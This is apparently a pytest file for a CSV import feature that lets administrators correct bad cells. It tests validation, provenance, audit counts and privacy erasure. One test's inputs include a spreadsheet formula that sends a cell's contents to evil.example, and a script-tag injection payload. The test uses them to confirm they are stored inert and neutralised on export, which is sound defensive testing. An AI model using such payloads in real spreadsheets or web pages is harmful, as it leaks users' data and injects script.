"""Fixing a problem cell in place (importing.corrections, data_access.imports),
on SQLite and PostgreSQL: a corrected cell is read and checked like the file's
own, the file is unchanged, the import stays all or nothing, and each
correction is kept in the import's provenance (original, row, column, new
value, who, when) and counted, never quoted, in the audit log. Attacked:
formula text, HTML, a NUL, a huge value; corrections that no longer apply."""

import datetime as dt

import pytest
from sqlalchemy import select

from data_access import imports, privacy
from data_access.models import AuditEntry, ImportBatch, Submission
from formats.csv_export import to_csv_bytes
from importing import ColumnMapping, propose_mapping, read_table
from importing.corrections import MAX_CORRECTION, Correction, CorrectionRefused, refused_corrections
from tests.support.dbdump import table_contents
from tests.support.spreadsheets import template_csv, valid_row

LIMIT = 10 * 1024 * 1024
AT = "2026-12-07T09:30:00+00:00"


def bad_file() -> bytes:
    """Three rows; row 3 (the second submission) has an impossible date."""
    return template_csv([valid_row(1), valid_row(2, received_at="32/07/2021"), valid_row(3)])


def mapping_of(content, config):
    return propose_mapping(read_table(content, "f.csv", max_bytes=LIMIT), config)


def fix(row, column, original, value, **kwargs):
    return Correction(row=row, column=column, original=original, value=value, by="admin", at=AT, **kwargs)


def common(content, config, mapping=None):
    return {
        "content": content,
        "filename": "f.csv",
        "mapping": mapping or mapping_of(content, config),
        "config": config,
        "max_bytes": LIMIT,
    }


def preview(db, content, config, corrections=(), mapping=None):
    with db.read() as session:
        return imports.preview_import(session, **common(content, config, mapping), corrections=corrections)


def apply(db, content, config, corrections=(), mapping=None, **kwargs):
    with db.write() as session:
        return imports.apply_import(
            session, **common(content, config, mapping), actor="admin", corrections=corrections, **kwargs
        )


def test_a_corrected_date_is_imported_and_kept_in_the_provenance(db, call_config):
    content = bad_file()
    before = preview(db, content, call_config)
    assert [(p.row, p.column, p.value) for p in before.problems] == [(3, "received_at", "32/07/2021")]

    correction = fix(3, "received_at", "32/07/2021", "31/07/2021")
    plan = preview(db, content, call_config, [correction])
    assert plan.ok and plan.counts["added"] == 3 and plan.fingerprint != before.fingerprint
    result = apply(db, content, call_config, [correction], expected_fingerprint=plan.fingerprint)

    with db.read() as session:
        received = session.scalar(select(Submission.received_at).where(Submission.reference == "CFE-0002"))
        batch = session.get(ImportBatch, result.batch_id)
        assert bytes(batch.content) == content  # the file as uploaded, unchanged
        [corrected] = [c for c in batch.changes if c["action"] == "corrected"]
        [entry] = session.scalars(select(AuditEntry).where(AuditEntry.action == "import.file"))
        entry_new = entry.new
    assert received.replace(tzinfo=None) == dt.datetime(2021, 7, 31)
    assert corrected["row"] == 3 and corrected["reference"] == "CFE-0002"
    assert corrected["corrections"] == {
        "received_at": {"column": "received_at", "original": "32/07/2021", "new": "31/07/2021", "by": "admin", "at": AT}
    }
    assert entry_new["corrections"] == 1
    assert "32/07/2021" not in str(entry_new) and "31/07/2021" not in str(entry_new)  # a count, never the values


@pytest.mark.parametrize(
    ("row", "column", "original", "value", "problem"),
    [
        (3, "received_at", "32/07/2021", "30/02/2021", "There is no such date or time."),
        (2, "themes", "sources_of_harm", "sorces of harm", "This is not one of the themes of this call."),
        (2, "title", "Evidence number 1", "x" * 1001, "This cell has 1,001 characters; the most for title is 1,000."),
        (2, "title", "Evidence number 1", "   ", "A title is required."),
    ],
)
def test_a_bad_correction_is_a_problem_of_its_cell_and_nothing_is_written(
    db, call_config, row, column, original, value, problem
):
    content = bad_file()
    corrections = [fix(row, column, original, value)]
    if row != 3:  # the date is fixed too, so that only the bad correction is wrong
        corrections.append(fix(3, "received_at", "32/07/2021", "31/07/2021"))
    plan = preview(db, content, call_config, corrections)
    refused = refused_corrections(plan, corrections)
    assert list(refused) == [corrections[0]]
    assert problem in [p.problem for p in refused[corrections[0]]]
    before = table_contents(db)
    with pytest.raises(imports.ImportHasProblems):
        apply(db, content, call_config, corrections)
    assert table_contents(db) == before


def test_a_correction_that_no_longer_applies_is_said_and_refuses_the_import(db, call_config):
    content = bad_file()
    correction = fix(3, "received_at", "32/07/2021", "31/07/2021", field="received_at")
    mapping = mapping_of(content, call_config)
    unmapped = ColumnMapping({k: v for k, v in mapping.columns.items() if k != "received_at"}, {})
    plan = preview(db, content, call_config, [correction], mapping=unmapped)
    [stale] = plan.stale_corrections
    assert stale.correction == correction and "no longer imported" in stale.reason
    assert plan.corrections == []

    moved = ColumnMapping({**unmapped.columns, "notes": "received_at"}, {})  # the column now goes elsewhere
    [stale] = preview(db, content, call_config, [correction], mapping=moved).stale_corrections
    assert "now goes to Notes, not Received" in stale.reason

    edited = bad_file().replace(b"32/07/2021", b"33/07/2021")  # a re-upload with another value in the cell
    [stale] = preview(db, edited, call_config, [correction]).stale_corrections
    assert "no longer holds the text that was corrected" in stale.reason

    gone = fix(9, "received_at", "32/07/2021", "31/07/2021")  # beyond the file's rows
    [stale] = preview(db, content, call_config, [gone]).stale_corrections
    assert "not in the file as it is read now" in stale.reason

    before = table_contents(db)
    with pytest.raises(imports.CorrectionsNoLongerApply, match="no longer imported"):
        apply(db, content, call_config, [correction], mapping=unmapped)
    assert table_contents(db) == before


def test_the_same_file_uploaded_again_takes_the_same_corrections(db, call_config):
    # Corrections name a cell by row, column and original text, so they hold for the same bytes read again.
    content = bad_file()
    correction = fix(3, "received_at", "32/07/2021", "31/07/2021")
    first = preview(db, content, call_config, [correction])
    second = preview(db, bytes(content), call_config, [correction])
    assert first.ok and second.ok and first.fingerprint == second.fingerprint


def test_formula_text_and_html_corrections_are_stored_as_typed_and_neutralised_on_export(db, call_config):
    content = bad_file()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    html = "<script>alert(1)</script><b>bold</b>"
    corrections = [
        fix(3, "received_at", "32/07/2021", "31/07/2021"),
        fix(2, "title", "Evidence number 1", formula),
        fix(4, "title", "Evidence number 3", html),
    ]
    assert preview(db, content, call_config, corrections).ok
    apply(db, content, call_config, corrections)
    with db.read() as session:
        titles = dict(session.execute(select(Submission.reference, Submission.title)).all())
    assert titles["CFE-0001"] == formula and titles["CFE-0003"] == html
    exported = to_csv_bytes(["title"], [{"title": titles["CFE-0001"]}]).decode("utf-8-sig")
    assert "'=HYPERLINK" in exported  # the shared writer a spreadsheet export goes through


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("31/07/2021\x00", "control character"),
        ("31/07\x1b[2J/2021", "control character"),
        ("x" * (MAX_CORRECTION + 1), f"no field takes more than {MAX_CORRECTION:,}"),
        ("x" * 1_000_000, f"no field takes more than {MAX_CORRECTION:,}"),
    ],
)
def test_a_correction_no_cell_can_hold_is_refused_in_words_and_nothing_is_written(db, call_config, value, words):
    content = bad_file()
    correction = fix(3, "received_at", "32/07/2021", value)
    with pytest.raises(CorrectionRefused, match=words):
        preview(db, content, call_config, [correction])
    before = table_contents(db)
    with pytest.raises(CorrectionRefused, match=r"(?i)nothing was changed"):
        apply(db, content, call_config, [correction])
    assert table_contents(db) == before


def test_erasing_a_submission_strips_its_corrections_from_the_provenance(db, call_config):
    content = template_csv([valid_row(1, contact_email="not an address")])
    correction = fix(2, "contact_email", "not an address", "rhys@example.org")
    result = apply(db, content, call_config, [correction])
    with db.write() as session:
        sid = session.scalar(select(Submission.id))
        privacy.erase_submission(session, submission_id=sid, actor="admin", reason="request")
    with db.read() as session:
        changes = session.get(ImportBatch, result.batch_id).changes
    [corrected] = [c for c in changes if c["action"] == "corrected"]
    assert corrected["corrections"] == {"contact_email": privacy.REDACTED}
    assert "rhys@example.org" not in str(changes) and "not an address" not in str(changes)


@pytest.mark.parametrize(
    ("title_line", "picked", "header_row", "source"),
    [(False, None, 1, "found"), (True, None, 2, "guessed"), (True, 2, 2, "picked")],
)
def test_the_header_row_is_kept_in_the_provenance(db, call_config, title_line, picked, header_row, source):
    content = (b"Call for evidence 2021,,\r\n" if title_line else b"") + template_csv([valid_row(1)])
    result = apply(db, content, call_config, header_row=picked)
    with db.read() as session:
        changes = session.get(ImportBatch, result.batch_id).changes
        [entry] = session.scalars(select(AuditEntry.new).where(AuditEntry.action == "import.file"))
    assert changes[0] == {
        "action": "read",
        "sheet": None,
        "header_row": header_row,
        "header_row_from": source,
        "corrections": 0,
    }
    assert entry["header_row"] == header_row
